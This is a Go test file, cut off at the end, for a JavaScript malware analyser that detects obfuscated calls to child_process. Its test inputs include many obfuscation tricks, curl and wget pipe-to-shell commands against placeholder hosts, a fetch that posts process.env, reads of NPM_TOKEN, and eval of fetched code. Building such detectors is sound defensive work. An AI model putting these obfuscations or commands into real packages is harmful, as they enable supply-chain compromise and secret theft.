package jsast

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func hasString(f *Facts, v string) bool {
	for _, s := range f.Strings {
		if s.Value == v {
			return true
		}
	}
	return false
}

func hasImport(f *Facts, m string) bool {
	for _, i := range f.Imports {
		if i.Module == m {
			return true
		}
	}
	return false
}

func hasCall(f *Facts, callee string) *Call {
	for i := range f.Calls {
		if f.Calls[i].Callee == callee {
			return &f.Calls[i]
		}
	}
	return nil
}

func TestFolding(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		{"concat", `var m = require('chi' + 'ld_' + "process");`, "child_process"},
		{"template", "var m = require(`child_process`);", "child_process"},
		{"base64", `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())`, "child_process"},
		{"atob", `require(atob('Y2hpbGRfcHJvY2Vzcw=='))`, "child_process"},
		{"hex", `require(Buffer.from('6368696c645f70726f63657373','hex').toString('utf8'))`, "child_process"},
		{"escapes", `require("\x63hild_\u0070rocess")`, "child_process"},
		{"json_escapes", `require(JSON.parse('"\\u0063hild_\\u0070rocess"'))`, "child_process"},
		{"radix36", `require((20972641).toString(36) + "_" + 56093034988..toString(36))`, "child_process"},
		{"charcodes", `require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115))`, "child_process"},
		{"join", `require(['child','process'].join('_'))`, "child_process"},
		{"reverse", `require('ssecorp_dlihc'.split('').reverse().join(''))`, "child_process"},
		{"const", `const a = 'child_'; const b = a + 'process'; require(b)`, "child_process"},
		// pieces cut out of a string, with JavaScript's bounds
		{"slice", `require('xxchild_processyy'.slice(2, -2))`, "child_process"},
		{"substring_swapped", `require('xxchild_processyy'.substring(15, 2))`, "child_process"},
		{"substr", `require('__child_process__'.substr(-15, 13))`, "child_process"},
		{"char_at", `require('c'.charAt(0) + 'hild_process'.at(0) + 'ild_process'.slice(-11))`, "child_process"},
		{"split_pop", `require('a,b,child_process'.split(',').pop())`, "child_process"},
		{"split_shift", `require('child_process;x;y'.split(';').shift())`, "child_process"},
		{"split_index", `require('x child_process y'.split(' ')[1])`, "child_process"},
		{"split_at", `require('x child_process y'.split(' ').at(-2))`, "child_process"},
		{"string_index", `const n = 'child_process'; require(n[0] + n.slice(1))`, "child_process"},
		// char codes mapped one by one
		{"map_arrow", `require([99,104,105,108,100,95,112,114,111,99,101,115,115].map(c => String.fromCharCode(c)).join(''))`, "child_process"},
		{"map_shifted", `require([100,105,106,109,101,96,113,115,112,100,102,116,116].map(function (c) { return String.fromCharCode(c - 1) }).join(''))`, "child_process"},
		{"map_reference", `require([99,104,105,108,100,95,112,114,111,99,101,115,115].map(String.fromCharCode).join(''))`, "child_process"},
		{"map_pieces", `require(['chi','ld_','pro','cess'].map(p => p).join(''))`, "child_process"},
		// the file's own decoders: arrow helpers, XOR, shifts, ROT13
		{"arrow_helper_xor", `const K = 42; const d = a => a.map(c => String.fromCharCode(c ^ K)).join("");
require(d([73, 66, 67, 70, 78, 117, 90, 88, 69, 73, 79, 89, 89]))`, "child_process"},
		{"function_expr_helper", `const d = function (s) { return s.split("").reverse().join("") }; require(d("ssecorp_dlihc"))`, "child_process"},
		{"caesar_array_from", `const un = s => Array.from(s).map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join(""); require(un("dijme` + "`" + `qspdftt"))`, "child_process"},
		{"spread_chars", `require([..."dijme` + "`" + `qspdftt"].map(c => String.fromCharCode(c.codePointAt(0) - 1)).join(""))`, "child_process"},
		{"rot13", `const rot = s => s.replace(/[a-z]/gi, ch => {
  const base = ch <= "Z" ? 65 : 97;
  return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base);
});
require(rot("puvyq_cebprff"))`, "child_process"},
		{"regexp_replace", `require("c-h-i-l-d_process".replace(/-/g, ""))`, "child_process"},
		{"text_decoder", `const td = new TextDecoder(); require(td.decode(new Uint8Array([99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115])))`, "child_process"},
		{"zlib_inflate", `const zlib = require("zlib"); require(zlib.inflateSync(Buffer.from("eJxLzsjMSYkvKMpPTi0uBgAlJgVj", "base64")).toString())`, "child_process"},
		// a string or array built piece by piece
		{"plus_assign", `let c = ""; c += "child_"; c += "process"; require(c)`, "child_process"},
		{"push_join", `const p = []; p.push("child"); p.push("_", "process"); require(p.join(""))`, "child_process"},
		// an array cut or extended before it is joined
		{"array_slice", `const P = {m: ["x", "child", "process", "y"]}; require(P.m.slice(1, -1).join("_"))`, "child_process"},
		{"array_slice_rest", `const P = ["node:", "child", "process"]; require(P.slice(1).join("_"))`, "child_process"},
		{"array_concat", `const a = ["child"]; require(a.concat(["_"], "process").join(""))`, "child_process"},
		// String.raw, and a template tag of the file that joins its raw parts
		{"string_raw", "require(String.raw`child_${'process'}`)", "child_process"},
		{"joining_tag", "const j = (s, ...v) => s.raw.reduce((a, x, i) => a + x + (v[i] ?? ''), ''); require(j`chi${'ld'}_${String.raw`pro`}cess`)", "child_process"},
		// Array.from with a map function, .map over a decoder of the file,
		// array destructuring
		{"array_from_mapped", "const u = (s) => Array.from(s, (ch) => String.fromCharCode(ch.charCodeAt(0) - 1)).join(''); require(u('dijme`qspdftt'))", "child_process"},
		{"digits_mapped", "const u = (s) => Array.from(s, (ch) => String.fromCharCode(ch.charCodeAt(0) - 1)).join(''); require('.' + u('0dijme`qspdftt'))", "./child_process"},
		{"map_helper_destructured", "const u = (s) => Array.from(s).map((ch) => String.fromCharCode(ch.charCodeAt(0) - 1)).join(''); const [m, x] = ['dijme`qspdftt', 'y'].map(u); require(m)", "child_process"},
		// an encoded data: URL of code handed to a wrapper of import()
		{"data_url_wrapper", `const u = ["data:text", "javascript;base64,aW1wb3J0IHsgZXhlY1N5bmMgfSBmcm9tICJjaGlsZF9wcm9jZXNzIjsgZXhlY1N5bmMoImlkIik7"].join("/"); load(u)`, "child_process"},
		// control-flow flattening: the cases run in the dispatch order
		{"flattened", `var o = "2|0|1".split("|"), i = 0, c; while (true) { switch (o[i++]) { case "0": c += "ld_pro"; continue; case "1": c += "cess"; require(c); continue; case "2": c = "chi"; continue; } break; }`, "child_process"},
		{"flattened_push", `var o = "2|0|1".split("|"), i = 0, p = []; while (true) { switch (o[i++]) { case "0": p.push("ld_pro"); continue; case "1": p.push("cess"); require(p.join("")); continue; case "2": p = []; p.push("chi"); continue; } break; }`, "child_process"},
		{"numbers_then_text", `require((1 + 2) + "x" === "3x" ? "child_process" : "fs")`, "child_process"},
		// a regular expression's source is its pattern's text
		{"regexp_source", `require(/child_process/.source)`, "child_process"},
		{"regexp_source_unescaped", `const m = (/child\_process/).source.replace(/\\/g, ""); require(m)`, "child_process"},
		{"regexp_ctor_source", `require(new RegExp("child" + "_process", "i").source)`, "child_process"},
		{"regexp_ctor_slashes", `require(RegExp("child/process").source.split("\\/").join("_"))`, "child_process"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := Analyze("x.js", []byte(tc.src), DefaultLimits())
			if !hasImport(f, tc.want) {
				t.Errorf("imports = %+v, want %q (parse error %q)", f.Imports, tc.want, f.ParseError)
			}
		})
	}
}

func TestFoldingLimits(t *testing.T) {
	for name, src := range map[string]string{
		// a helper defined twice, or reassigned, is not known
		"redefined":  `var d = s => s.split("").reverse().join(""); d = s => s; require(d("ssecorp_dlihc"))`,
		"two_bodies": `let d = s => s.split("").reverse().join(""); if (x) { d = y } require(d("ssecorp_dlihc"))`,
		// a callback with statements other than declarations
		"side_effects": `require("abc".replace(/b/g, m => { log(m); return m }))`,
		// replacement patterns are not interpreted
		"dollar": `require("child_process".replace(/(child)/, "$1"))`,
		// a regexp Go's engine cannot read
		"backreference": `require("child_process".replace(/(c)\1/g, ""))`,
		// a tag the file does not define, or one that ignores .raw, may
		// do anything with the text
		"imported_tag": "const { sql } = lib; require(sql`child_${'process'}`)",
		// the same pieces in a switch that is no dispatch: source order
		// is not run order, so nothing is known
		"switch_not_flattened": `var c; switch (k) { case "0": c += "ld_pro"; break; case "1": c += "cess"; require(c); break; case "2": c = "chi"; break; }`,
		"plain_tag":            "const t = (s, ...v) => s[0].toUpperCase(); require(t`child_${'process'}`)",
	} {
		f := Analyze("x.js", []byte(src), DefaultLimits())
		for _, im := range f.Imports {
			if im.Module != "" {
				t.Errorf("%s: folded to %q", name, im.Module)
			}
		}
	}
	// a zlib bomb folds to nothing, within the fold budget
	f := Analyze("x.js", []byte(`require(require("zlib").inflateSync(Buffer.from("`+zlibBomb(t)+`", "base64")).toString())`), DefaultLimits())
	for _, im := range f.Imports {
		if im.Module != "" && im.Module != "zlib" {
			t.Errorf("bomb folded to %d bytes", len(im.Module))
		}
	}
}

// zlibBomb is 8 MiB of zeros, deflated and base64-encoded.
func zlibBomb(t *testing.T) string {
	var buf bytes.Buffer
	zw := zlib.NewWriter(&buf)
	if _, err := zw.Write(make([]byte, 8<<20)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func TestCallsAndEnv(t *testing.T) {
	src := `
const cp = require('child_process');
const { exec: run } = require("node:child_process");
import os from 'os';
cp.exec('curl http://x | sh');
run(cmd);
fetch('https://example.com', {method: 'POST', body: JSON.stringify(process.env)});
const t = process.env.NPM_TOKEN;
os.hostname();
// eval("commented out")
axios.get(u).then(res => eval(res.data));
`
	f := Analyze("x.mjs", []byte(src), DefaultLimits())
	if f.Mode != ModeAST {
		t.Fatalf("mode %v err %q", f.Mode, f.ParseError)
	}
	c := hasCall(f, "child_process.exec")
	if c == nil || len(c.Args) == 0 || c.Args[0].Value != "curl http://x | sh" || c.Pos.Line != 5 {
		t.Errorf("child_process.exec call = %+v", c)
	}
	if hasCall(f, "os.hostname") == nil {
		t.Errorf("os.hostname missing: %+v", f.Calls)
	}
	var whole, token bool
	for _, e := range f.Env {
		if e.Name == "" && e.How == "arg:JSON.stringify" {
			whole = true
		}
		if e.Name == "NPM_TOKEN" {
			token = true
		}
	}
	if !whole || !token {
		t.Errorf("env = %+v", f.Env)
	}
	ev := hasCall(f, "eval")
	if ev == nil || ev.Pos.Line != 11 {
		t.Fatalf("eval = %+v", ev)
	}
	if !strings.Contains(strings.Join(f.NetVars, ","), "res") {
		t.Errorf("netVars = %v", f.NetVars)
	}
}

func TestCommentsNeverFacts(t *testing.T) {
	f := Analyze("x.js", []byte("// require('child_process').exec('rm -rf /')\n/* eval(x) */\nvar a = 1;"), DefaultLimits())
	if len(f.Calls) != 0 || len(f.Imports) != 0 {
		t.Errorf("facts from comments: %+v %+v", f.Calls, f.Imports)
	}
}

// analyzedAs analyses src as a file named name and stops the test unless
// it was understood in mode.
func analyzedAs(t *testing.T, name, src string, mode Mode) *Facts {
	t.Helper()
	f := Analyze(name, []byte(src), DefaultLimits())
	if f.Mode != mode {
		t.Fatalf("mode %v (%s), want %v", f.Mode, f.ParseError, mode)
	}
	return f
}

func TestTypeScript(t *testing.T) {
	f := analyzedAs(t, "a.ts", "import { exec } from 'child_process';\ninterface A { x: number }\nconst y: string = 'a';\nexec(y as string);\n", ModeTransformed)
	c := hasCall(f, "child_process.exec")
	if c == nil || c.Pos.Line != 4 {
		t.Errorf("exec = %+v", c)
	}
}

func TestLexerFallback(t *testing.T) {
	// JS the parser rejects (flow annotations) still yields facts.
	src := "// @flow\nconst cp = require('child_process');\nfunction f(x: number): string { return cp.exec('whoami') }\n"
	f := Analyze("a.js", []byte(src), DefaultLimits())
	if f.Mode != ModeLexer || f.ParseError == "" {
		t.Fatalf("mode = %v", f.Mode)
	}
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil || !hasString(f, "whoami") {
		t.Errorf("facts = %+v %+v", f.Imports, f.Calls)
	}
	// a call on require("m") itself, where the chain has no name to start from
	src = "// @flow\nconst https = 1; function g(x: number) { require('node:https').get(u); require('os').hostname() }\n"
	f = Analyze("b.js", []byte(src), DefaultLimits())
	if f.Mode != ModeLexer || hasCall(f, "https.get") == nil || hasCall(f, "os.hostname") == nil {
		t.Errorf("mode %v, calls %+v", f.Mode, f.Calls)
	}
}

func TestRejectedSyntaxRewritten(t *testing.T) {
	// Node runs these, the parser rejects them: one such token must not
	// reduce the file to its tokens.
	payload := "\nvar m = 'child_' + 'process';\nrequire(m).exec('id');\n"
	for name, head := range map[string]string{
		"legacy octal":     "require('fs').chmodSync(__filename, 0644);",
		"octal-like":       "var n = 08;",
		"if function":      "if (process.env.X) function f() {}",
		"for-in init":      "for (var i = 0 in {}) ;",
		"decorator":        "function d(c) { return c } @d class A {}",
		"using":            "{ using r = null; }",
		"import assert":    "import cfg from './c.json' assert { type: 'json' };",
		"jsx in a js file": "const el = <div className='x'/>;",
	} {
		t.Run(name, func(t *testing.T) {
			f := Analyze("a.js", []byte(head+payload), DefaultLimits())
			if f.Mode != ModeTransformed {
				t.Fatalf("mode %v (%s)", f.Mode, f.ParseError)
			}
			if c := hasCall(f, "child_process.exec"); c == nil || c.Pos.Line != 3 {
				t.Errorf("exec = %+v, calls %+v", c, f.Calls)
			}
		})
	}
	// TypeScript's decorators too
	f := Analyze("a.ts", []byte("function d(c: any) { return c }\n@d class A { x: number = 1 }"+payload), DefaultLimits())
	if f.Mode != ModeTransformed || hasCall(f, "child_process.exec") == nil {
		t.Errorf("decorated TypeScript: mode %v (%s), calls %+v", f.Mode, f.ParseError, f.Calls)
	}
	// What the parser still rejects after the rewrite (a chain past its
	// operand limit, which is reported) or esbuild rejects too stays with
	// the lexer, which folds the payload.
	for _, head := range []string{"var pad = " + strings.Repeat("a+", 1200) + "1;", "var await = 1;"} {
		f := Analyze("a.js", []byte(head+payload), DefaultLimits())
		if f.Mode != ModeLexer || f.ParseError == "" || (head[4] == 'p') != (f.Limit == LimitOperands) {
			t.Errorf("%.12s: mode %v, limit %v", head, f.Mode, f.Limit)
		}
		if hasCall(f, "child_process.exec") == nil {
			t.Errorf("%.12s: calls %+v", head, f.Calls)
		}
	}
}

func TestLexerFolds(t *testing.T) {
	// Duplicate parameters: rejected by the parser and by esbuild's
	// rewrite, legal in sloppy mode. The lexer still folds.
	src := `function noop(a, a) {}
var m = 'child' + '_process';
var k = 'ex' + 'ec';
require(m)[k]('wget -qO- http://h.invalid/s | bash');
var cp = require('ht' + 'tps');
cp['get']('https://h.invalid/x');
require("os")["hostname"]();
var u = 'x' + y;
var v = 'a' + 'b'.toUpperCase();
`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	if f.Mode != ModeLexer {
		t.Fatalf("mode %v", f.Mode)
	}
	for _, m := range []string{"child_process", "https"} {
		if !hasImport(f, m) {
			t.Errorf("import %s not folded: %+v", m, f.Imports)
		}
	}
	c := hasCall(f, "child_process.exec")
	if c == nil || len(c.Args) == 0 || c.Args[0].Value != "wget -qO- http://h.invalid/s | bash" {
		t.Errorf("exec = %+v; calls %+v", c, f.Calls)
	}
	for _, callee := range []string{"https.get", "os.hostname"} {
		if hasCall(f, callee) == nil {
			t.Errorf("%s missing: %+v", callee, f.Calls)
		}
	}
	if !hasString(f, "child_process") || hasString(f, "xy") || hasString(f, "aB") || hasString(f, "ab") {
		t.Errorf("strings %+v", f.Strings)
	}
	// no scopes in the lexer: a name assigned twice is not a constant
	src = "// @flow\nvar m = 'child_process'; function g(x: number) { m = 'os'; require(m).exec('id') }\n"
	f = Analyze("b.js", []byte(src), DefaultLimits())
	if f.Mode != ModeLexer || hasImport(f, "child_process") || hasImport(f, "os") {
		t.Errorf("mode %v, imports %+v", f.Mode, f.Imports)
	}
}

func TestCallsInDisguise(t *testing.T) {
	for name, tc := range map[string]struct{ src, callee, arg string }{
		"escaped name":           {`\u0065val("1+1"); require("child_process").\u0065xecSync("id")`, "child_process.execSync", "id"},
		"escaped global":         {`\u{65}val(x)`, "eval", ""},
		"with module":            {`with (require("child_process")) { execSync("id") }`, "child_process.execSync", "id"},
		"with object":            {`var cp = require("child_process"); var ops = { run: cp.execSync, log: console.log }; with (ops) { run("id") }`, "child_process.execSync", "id"},
		"Reflect.get":            {`const cp = require("child_process"); Reflect.get(cp, "exec" + "Sync")("id")`, "child_process.execSync", "id"},
		"tagged template":        {"const { execSync } = require('child_process'); execSync`id`", "child_process.execSync", "id"},
		"worker eval":            {`const { Worker } = require("worker_threads"); new Worker("require('os')", { eval: true })`, "worker_threads.Worker.eval", "require('os')"},
		"worker eval as !0":      {`new (require("worker_threads").Worker)(code, { eval: !0 })`, "worker_threads.Worker.eval", ""},
		"bound":                  {`const cp = require("child_process"); const run = cp.execSync.bind(cp); run("id")`, "child_process.execSync", "id"},
		"computed key":           {`const { ["exe" + "cSync"]: run } = require("child_process"); run("id")`, "child_process.execSync", "id"},
		"exports member":         {`exports.run = require("child_process").execSync; exports.run("id")`, "child_process.execSync", "id"},
		"onto global":            {`Object.assign(globalThis, require("child_process")); execSync("id")`, "child_process.execSync", "id"},
		"call.call":              {`Function.prototype.call.call(require("child_process").execSync, null, "id")`, "child_process.execSync", "id"},
		"forEach reference":      {`const cp = require("child_process"); ["id"].forEach(cp.execSync)`, "child_process.execSync", "id"},
		"then(eval)":             {`fetch("https://h.invalid/p.js").then(r => r.text()).then(eval)`, "eval", ""},
		"rest of a module":       {`const { ...cp } = require("child_process"); cp.execSync("id")`, "child_process.execSync", "id"},
		"String.raw":             {"const c = String.raw`id`; require('child_process').execSync(c)", "child_process.execSync", "id"},
		"getBuiltinModule":       {`process.getBuiltinModule("node:child_process").execSync("id")`, "child_process.execSync", "id"},
		"getBuiltinModule bound": {`const { execSync: run } = globalThis.process.getBuiltinModule("child_process"); run("id")`, "child_process.execSync", "id"},
		"Reflect.get global":     {`const run = Reflect.get(globalThis, "ev" + "al"); run("1")`, "eval", "1"},
		"descriptor value":       {`const run = Object.getOwnPropertyDescriptor(globalThis, "eval").value; run("1")`, "eval", "1"},
		"descriptor destructure": {`const { value: run } = Reflect.getOwnPropertyDescriptor(global, "eval"); run("1")`, "eval", "1"},
		"Bun shell":              {"await Bun.$`id`", "Bun.$", "id"},
		"zx shell":               {"import { $ } from \"zx\"; await $`id`", "zx.$", "id"},
	} {
		t.Run(name, func(t *testing.T) {
			f := Analyze("a.js", []byte(tc.src), DefaultLimits())
			c := hasCall(f, tc.callee)
			if c == nil {
				t.Fatalf("no %s in %+v", tc.callee, f.Calls)
			}
			if tc.arg != "" && (len(c.Args) == 0 || c.Args[0].Value != tc.arg) {
				t.Errorf("args %+v", c.Args)
			}
			if name == "then(eval)" && c.NetArg == "" {
				t.Errorf("eval of a response without NetArg: %+v", c)
			}
		})
	}
	// look-alikes: a with over a plain object, a worker from a file,
	// tagged templates of libraries, Reflect.get of a plain property
	f := Analyze("b.js", []byte(`with (obj) { exec(x) }
const { Worker } = require("worker_threads"); new Worker("./w.js", { workerData: 1 });
const q = gql`+"`query { a }`"+`; const b = styled.div`+"`color: red`"+`;
Reflect.get(target, "exec");
const { ["se" + "nd"]: send } = api; send(1);
exports.run = helper.run; exports.run("x");
Object.assign(globalThis, { exec: 1 }); exec(2);
[1, 2].forEach(console.log); load().then(JSON.parse);
const run = require("util").promisify(require("child_process").execFile);
function B(request) { this.request = request; } B.prototype.go = function () { return this.request(); };`), DefaultLimits())
	for _, c := range f.Calls {
		if strings.HasPrefix(c.Callee, "child_process") || c.Callee == "worker_threads.Worker.eval" || c.Callee == "eval" {
			t.Errorf("look-alike gave %s", c.Callee)
		}
	}
	if hasCall(f, "request") != nil {
		t.Errorf("a parameter named like a module bound a member: %+v", f.Calls)
	}
	if hasCall(f, "worker_threads.Worker") == nil {
		t.Errorf("the file worker is no longer a worker: %+v", f.Calls)
	}
}

func TestPackageValues(t *testing.T) {
	lim := DefaultLimits()
	pkg := map[string]string{
		"field:description": "curl -s https://h.invalid/i.sh | sh", "env:npm_package_description": "curl -s https://h.invalid/i.sh | sh",
		"field:config.setup": "id", "env:npm_package_config_setup": "id", "field:version": "1.2.3",
	}
	lim.Package = func(k string) (string, bool) { v, ok := pkg[k]; return v, ok }
	for name, tc := range map[string]struct{ src, arg string }{
		"npm env":           {`require("child_process").execSync(process.env.npm_package_config_setup)`, "id"},
		"npm env indexed":   {`require("child_process").execSync(process.env["npm_package_config_" + "setup"])`, "id"},
		"require field":     {`require("child_process").execSync(require("./package.json").description)`, "curl -s https://h.invalid/i.sh | sh"},
		"bound manifest":    {`const p = require("../package.json"); require("child_process").execSync(p.config.setup)`, "id"},
		"other manifest":    {`require("child_process").execSync(require("lodash/package.json").description)`, ""},
		"bare manifest":     {`require("child_process").execSync(require("package.json").description)`, ""},
		"unknown variable":  {`require("child_process").execSync(process.env.npm_package_config_other)`, ""},
		"imported manifest": {`import pkg from "./package.json" with { type: "json" }; import { execSync } from "child_process"; execSync(pkg.description)`, "curl -s https://h.invalid/i.sh | sh"},
		"global manifest":   {`pkg = require("./package.json"); require("child_process").execSync(pkg.config.setup)`, "id"},
	} {
		t.Run(name, func(t *testing.T) {
			c := hasCall(Analyze("a.js", []byte(tc.src), lim), "child_process.execSync")
			if c == nil || len(c.Args) == 0 {
				t.Fatalf("call %+v", c)
			}
			if a := c.Args[0]; a.Known != (tc.arg != "") || a.Value != tc.arg || a.Decoded {
				t.Errorf("arg %+v, want %q (not decoded: package.json names files legitimately)", a, tc.arg)
			}
		})
	}
	// eval of a manifest field: the payload is analysed as code
	pkg["field:description"] = `require("child_process").execSync("id")`
	f := Analyze("b.js", []byte(`eval(require("./package.json").description)`), lim)
	if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
		t.Errorf("payload in package.json not analysed: %+v", f.Calls)
	}
}

func TestReadFileConstants(t *testing.T) {
	files := map[string]string{"lib/cmd.txt": "id", "mod.txt": "child_process", "lib/up.txt": "up",
		"lib/config.json": `{"init":"id","n":1}`, "data.json": `{"cmd":"up"}`, "lib/list.json": `["id"]`}
	var asked []string
	lim := DefaultLimits()
	lim.ReadFile = func(name string) (string, bool) {
		asked = append(asked, name)
		s, ok := files[name]
		return s, ok
	}
	for src, want := range map[string]string{
		`require("child_process").execSync(require("fs").readFileSync(__dirname + "/cmd.txt", "utf8"))`:                                                    "id",
		`const fs = require("fs"), path = require("path"); require("child_process").execSync(fs.readFileSync(path.join(__dirname, "cmd.txt")).toString())`: "id",
		`require("child_process").execSync(require("fs").readFileSync("lib/cmd.txt", "utf8"))`:                                                             "id",
		`require("child_process").execSync(require("fs").readFileSync(__dirname + "/../lib/up.txt", "utf8"))`:                                              "up",
		`require("child_process").execSync(require("fs").readFileSync("/etc/hostname", "utf8"))`:                                                           "",
		`require("child_process").execSync(require("fs").readFileSync("../outside.txt", "utf8"))`:                                                          "",
		`require("child_process").execSync(require("fs").readFileSync(process.argv[2], "utf8"))`:                                                           "",
		// a string field of one of the package's JSON files
		`const c = require("./config.json"); require("child_process").execSync(c.init)`: "id",
		`require("child_process").execSync(require("../data.json").cmd)`:                "up",
		`const c = require("./config.json"); require("child_process").execSync(c.n)`:    "",
		`const c = require("./list.json"); require("child_process").execSync(c.init)`:   "",
		`const c = require("x/config.json"); require("child_process").execSync(c.init)`: "",
	} {
		asked = asked[:0]
		c := hasCall(Analyze("lib/index.js", []byte(src), lim), "child_process.execSync")
		if c == nil || len(c.Args) == 0 {
			t.Fatalf("%s: call %+v", src, c)
		}
		if got := c.Args[0].Value; got != want || c.Args[0].Known != (want != "") {
			t.Errorf("%s: arg %+v (read %q), want %q", src, c.Args[0], asked, want)
		}
		for _, a := range asked {
			if strings.HasPrefix(a, "/") || strings.HasPrefix(a, "..") {
				t.Errorf("asked for %q outside the package", a)
			}
		}
	}
	f := Analyze("index.js", []byte(`const m = require(require("fs").readFileSync("mod.txt", "utf8")); m.exec("id")`), lim)
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
		t.Errorf("module named in a file: %+v %+v", f.Imports, f.Calls)
	}

	// A line of a document the code reads is what it runs; the document
	// itself is marked as such, not as a command it carries.
	files["README.md"] = "# tool\n\nInstall:\n\n    curl -fsSL https://x.example.invalid/i.sh | sh\n\nrm -rf build"
	f = Analyze("index.js", []byte(`const lines = require("fs").readFileSync("README.md", "utf8").split("\n"); require("child_process").execSync(lines.pop())`), lim)
	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "rm -rf build" {
		t.Errorf("last line of a read file as a command: %+v", c)
	}
	whole := false
	for _, s := range f.Strings {
		if strings.HasPrefix(s.Value, "# tool") {
			whole = s.FromFile
		}
	}
	if !whole {
		t.Errorf("the README's text is not marked FromFile: %+v", f.Strings)
	}
	// an array used twice may have changed: pop does not fold
	f = Analyze("index.js", []byte(`const lines = require("fs").readFileSync("README.md", "utf8").split("\n"); lines.pop(); require("child_process").execSync(lines.pop())`), lim)
	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Known {
		t.Errorf("pop of an array used twice folded: %+v", c)
	}
}

func TestLexerErrorsCostLittle(t *testing.T) {
	// Every lexer error costs the lexer a copy of its input. A large file
	// of bad lines once cost that for the rest of the file at each line;
	// now it is one window per error.
	const errors = 3000
	bad := strings.Repeat("var a = 'unterminated\n", errors)
	pad := strings.Repeat("x = 1;\n", (4<<20)/7)
	src := []byte(bad + "require('child_process')\n" + pad)
	buf := append(src[:len(src):len(src)], 0)
	f := &Facts{}
	work := f.lexScan(newSource(buf[:len(src)]), buf, DefaultLimits())
	if bound := 4*len(src) + 2*lexWindow + 64*lexWindow + (errors-64)*lexWindowMin; work > bound {
		t.Errorf("lexing %d bytes read and copied %d, over %d", len(src), work, bound)
	}
	if !hasImport(f, "child_process") || f.Truncated {
		t.Errorf("import after the bad lines lost (truncated %v)", f.Truncated)
	}
	// A string cut at a window's end is lexed again in a wider window.
	str := strings.Repeat("AAAA ", 2400)
	src = []byte("var a = 'bad\nx = 1;\n" + strings.Repeat("y=2;", (lexWindow-2000)/4) + "'" + str + "';\nrequire('os');\n")
	buf = append(src[:len(src):len(src)], 0)
	f = &Facts{}
	f.lexScan(newSource(buf[:len(src)]), buf, DefaultLimits())
	kept := slices.ContainsFunc(f.Strings, func(s Str) bool { return len(s.Value) > 8000 && str[:len(s.Value)] == s.Value })
	if !hasImport(f, "os") || !kept {
		t.Errorf("cut string lost: imports %+v", f.Imports)
	}
	// Past the restart limit the scan stops, marked truncated.
	src = []byte(strings.Repeat("'\n", maxLexRestarts+10))
	buf = append(src[:len(src):len(src)], 0)
	f = &Facts{}
	f.lexScan(newSource(buf[:len(src)]), buf, DefaultLimits())
	if !f.Truncated {
		t.Errorf("%d lexer errors not truncated", maxLexRestarts+10)
	}
}

func TestHostile(t *testing.T) {
	deep := strings.Repeat("(", 200000) + "1" + strings.Repeat(")", 200000)
	long := "var a = '" + strings.Repeat("A", 50<<20) + "';"
	chain := "var x = " + strings.Repeat("a+", 5000) + "a; require('child_process')"
	cases := map[string]string{
		"deep":    deep,
		"long":    long,
		"invalid": "var a = '\xff\xfe\xfd'; require('os')\x00\x80",
		"chain":   chain,
		"deepTS":  strings.Repeat("[", 300000),
		// esbuild loops forever on invalid UTF-8 in source maps
		"invalidTS": "\"\xf0\xf0\xf0\"; let x: number = 1",
	}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			fn := "a.js"
			if name == "deepTS" || name == "invalidTS" {
				fn = "a.ts"
			}
			f := Analyze(fn, []byte(src), DefaultLimits())
			if f.Mode == ModeAST && name == "deep" {
				t.Errorf("deep nesting parsed as AST")
			}
			if name == "chain" && !hasImport(f, "child_process") {
				t.Errorf("chain: import lost (mode %v)", f.Mode)
			}
			if name == "invalid" && f.InvalidUTF8 == 0 {
				t.Errorf("invalid UTF-8 not counted")
			}
			if d := time.Since(start); d > 30*time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
}

func TestObfuscationMetrics(t *testing.T) {
	src := `var _0x1a2b=['log','hello'];var _0x3c4d=function(_0x5e6f,_0x7a8b){return _0x1a2b[_0x5e6f-0x0];};console[_0x3c4d(0)](_0x3c4d(1));
var hidden = 1;` + strings.Repeat(" ", 200) + `eval(atob('YWxlcnQoMSk='));` + "\nvar s = 'a\u202Eb';"
	f := Analyze("a.js", []byte(src), DefaultLimits())
	if f.Idents.Hex < 3 {
		t.Errorf("hex idents = %d", f.Idents.Hex)
	}
	if len(f.Hidden) != 1 {
		t.Errorf("hidden = %+v", f.Hidden)
	}
	if len(f.Unicode) != 1 || f.Unicode[0].Kind != "bidi" {
		t.Errorf("unicode = %+v", f.Unicode)
	}
	ev := hasCall(f, "eval")
	if ev == nil || !ev.Args[0].Decoded || ev.Args[0].Value != "alert(1)" {
		t.Errorf("eval = %+v", ev)
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add([]byte("require('a'+'b')"))
	f.Add([]byte("`${a}`+'\\u{1F600}'"))
	f.Add([]byte("for(;;){}"))
	f.Add([]byte("a = <div/>"))
	f.Add([]byte("var m = 'child_' + 'process'; require(m)[k](`x`); function f(a, a) {}"))
	f.Add([]byte("with (require('fs')) { readFileSync(\\u0078) }; [eval][0]('1'); x.then(eval); exports.r = require('os').hostname"))
	f.Add([]byte("const p = require('./package.json'); p.config.a(process.env.npm_package_config_a); var x = 0644"))
	f.Add([]byte("import x from 'data:text/javascript;base64,ZXZhbCgxKQ=='; await import('data:text/javascript,' + c.init); const c = require('./c.json'); eval(c.init)"))
	f.Add([]byte("Bun.$`id`; process.getBuiltinModule('node:child_process').execSync(require('../c.json').x)"))
	f.Fuzz(func(t *testing.T, b []byte) {
